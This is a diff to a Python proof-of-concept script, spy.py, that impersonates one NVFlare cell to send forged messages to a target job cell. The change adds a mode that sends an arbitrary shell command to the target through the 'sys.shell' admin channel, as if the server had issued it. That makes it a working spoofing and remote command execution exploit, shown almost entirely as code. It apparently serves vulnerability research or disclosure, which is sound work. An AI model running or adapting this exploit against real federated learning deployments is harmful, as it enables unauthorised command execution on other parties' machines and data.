@@ -2,7 +2,8 @@
 
 ``python spy.py STARTUP PORT ORIGIN TARGET WHAT``, with a token in the environment,
 connects as a part of its own site and sends the job cell ``TARGET`` a call as if
-``ORIGIN`` had: the bytes in the file ``WHAT``; or so many MB as an answer to nothing.
+``ORIGIN`` had: the bytes in the file ``WHAT``; or so many MB as an answer to nothing;
+or the shell command ``WHAT``, as the server could.
 NVFlare's own classes do all the rest.
 """
 
@@ -20,6 +21,8 @@ from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
 from nvflare.fuel.f3.cellnet.utils import new_cell_message
 from nvflare.fuel.f3.message import Message
 from nvflare.fuel.sec.authn import set_add_auth_headers_filters
+from nvflare.private.admin_defs import Message as Command
+from nvflare.private.fed.utils.fed_utils import fobs_initialize
 
 
 def say(what):
@@ -30,6 +33,7 @@ def say(what):
 
 def main(startup, port, origin, target, what):
     flare_decomposers.register()
+    fobs_initialize()
     site = Path(startup).parent.name
     credentials = {
         "ca_cert": f"{startup}/rootCA.pem",
@@ -58,6 +62,10 @@ def main(startup, port, origin, target, what):
             say(sent.result(60.0))
         except Exception as error:
             say(error)
+    if not Path(what).exists():
+        command = new_cell_message({}, Command("sys.shell", what))
+        reply = cell.send_request("admin", "sys.shell", target, command, timeout=4.0)
+        say(reply.payload and reply.payload.body)
     victim = target.split(".")[0]
     headers = {
         CallHeaderKey.PROTOCOL_VERSION: VERSION,
